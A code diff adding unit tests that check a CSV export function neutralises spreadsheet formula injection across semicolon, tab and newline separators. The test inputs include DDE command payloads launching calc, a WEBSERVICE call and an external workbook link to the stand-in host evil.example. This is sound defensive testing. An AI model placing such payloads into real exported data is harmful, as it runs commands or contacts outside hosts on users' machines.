@@ -16,6 +16,18 @@ test.each([
   expect(csvLine([text])).toBe(`${cell}\r\n`)
 })
 
+test.each([
+  [`x;=cmd|'/C calc'!A0;`, `x;'=cmd|'/C calc'!A0;`],
+  [`x\t@SUM(A1)`, `x\t'@SUM(A1)`],
+  [`x;"=cmd|'/C calc'!A0"`, `"x;""'=cmd|'/C calc'!A0"""`],
+  [`x\n=WEBSERVICE("https://evil.example")`, `"x\n'=WEBSERVICE(""https://evil.example"")"`],
+  [`x\r\n- 2+3+cmd|'/C calc'!A0`, `"x\r\n'- 2+3+cmd|'/C calc'!A0"`],
+  [`x;='//evil.example/[a.xlsx]b'!A1`, `x;'='//evil.example/[a.xlsx]b'!A1`],
+  [`-1;-cmd|'/C calc'!A0`, `'-1;'-cmd|'/C calc'!A0`],
+])('%j is no formula where semicolons or tabs separate cells', (text, cell) => {
+  expect(csvLine([text])).toBe(`${cell}\r\n`)
+})
+
 test('numbers stay numbers, lists are joined, objects are JSON, and nothing is an empty cell', () => {
   expect(csvLine([-1, true, null, undefined, ['a', 'b'], { clock: 'running' }, []])).toBe(
     '-1,true,,,a; b,"{""clock"":""running""}",\r\n',
@@ -30,6 +42,8 @@ test('any text comes back as it was', () => {
     'two\nlines',
     'two\r\nlines',
     ' spaces ',
+    'Try this:\n- restart it!\n- [the runbook](https://kb.example/1)\n@alice, please',
+    'printer; -5 °C; a=b (maybe)',
     'Übergröße 漢字 🙂',
     '',
   ]
